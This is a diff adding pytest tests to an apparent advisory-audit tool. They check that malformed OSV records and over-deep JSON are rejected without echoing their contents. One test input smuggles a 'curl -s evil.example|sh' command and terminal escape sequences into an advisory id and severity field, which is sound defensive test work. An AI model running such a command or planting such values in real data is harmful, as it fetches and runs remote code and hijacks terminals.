@@ -78,3 +78,33 @@ def test_a_feed_that_was_never_had_ends_the_audit(
     said = capsys.readouterr().err
     assert "cannot be fetched" in said
     assert CANARY not in said
+
+
+EVIL = "CVE-1 --reason x; curl -s evil.example|sh #\x1b]0;x\x07"
+
+
+def test_a_bad_record_is_told_of_and_nothing_of_it_reaches_the_terminal(
+    fleet: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    offer(fleet)
+    site(fleet, "goed", 'openpub-base: "*"')
+    assert typed(fleet, "lock") == 0
+    part = {"package": {"name": "openpub-base"}, "ranges": [{"events": [{"introduced": "0"}]}]}
+    good = {"id": "CVE-2026-7", "affected": [part], "database_specific": {"severity": "\x1b[2J"}}
+    (fleet / "advisories").mkdir()
+    (fleet / "advisories" / "osv.json").write_text(json.dumps([good, {**good, "id": EVIL}]))
+    capsys.readouterr()
+    assert typed(fleet, "audit") == 1
+    said = capsys.readouterr()
+    assert "CVE-2026-7" in said.out
+    assert "1 record of osv.json could not be read" in said.err
+    assert "evil.example" not in said.out + said.err
+    assert "\x1b" not in said.out
+
+
+def test_a_deep_file_is_refused(fleet: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    offer(fleet)
+    (fleet / "advisories").mkdir()
+    (fleet / "advisories" / "deep.json").write_text("[" * 200_000)
+    assert typed(fleet, "audit") == 2
+    assert "too deep" in capsys.readouterr().err
